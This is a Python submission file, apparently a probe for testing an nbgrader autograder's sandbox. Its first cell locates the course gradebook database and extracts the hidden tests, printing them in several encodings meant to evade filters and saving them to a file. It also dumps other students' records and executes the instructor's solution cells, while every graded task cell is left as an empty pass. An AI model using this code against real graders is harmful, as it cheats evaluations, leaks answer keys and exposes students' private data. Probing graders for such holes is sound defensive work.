# tries: reads hidden tests and other students' scores from the gradebook
# base: stub
# may score: 0
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found


import re


def leak(text):
    """Show the hidden tests in a text in every way that could slip past a filter."""
    for hidden in re.findall(r"BEGIN HIDDEN TESTS(.{1,4000}?)END HIDDEN TESTS", text, re.DOTALL)[:20]:
        if "check." not in hidden or "4000}" in hidden:
            continue  # this very line
        print("BREACH hidden test:", hidden[:1500], hidden[:300][::-1], hidden[:300].encode("utf-8", "replace").hex())
        with open("leak.txt", "a", encoding="utf-8", errors="replace") as file:
            file.write(hidden)

import glob, sqlite3

for root in course_roots():
    for path in [os.path.join(root, "gradebook.db"), *glob.glob(os.path.join(root, "*", "gradebook.db"))]:
        try:
            book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            sources = book.execute("select name, source from source_cell").fetchall()
            print("BREACH the gradebook can be read:", path)
            for name, source in sources:
                leak(source or "")
            print(book.execute("select * from student").fetchall()[:5])
            for name, source in sources:
                if (name or "").startswith("task-") and "BEGIN SOLUTION" in (source or ""):
                    exec(source, globals())
            book.close()
        except sqlite3.Error as error:
            print(error)
# %% task-1-1
pass  # defined in the first cell
# %% task-2-1
pass  # defined in the first cell
# %% task-2-2
pass  # defined in the first cell
# %% task-3-1
pass  # defined in the first cell
# %% task-3-2
pass  # defined in the first cell
# %% task-4-1
pass  # defined in the first cell
# %% task-4-2
pass  # defined in the first cell
# %% task-4-3
pass  # defined in the first cell
# %% task-4-4
pass  # defined in the first cell
# %% task-5-1
pass  # defined in the first cell
# %% task-5-2
pass  # defined in the first cell
# %% task-5-3
pass  # defined in the first cell
# %% task-5-4
pass  # defined in the first cell
# %% task-6-1
pass  # defined in the first cell
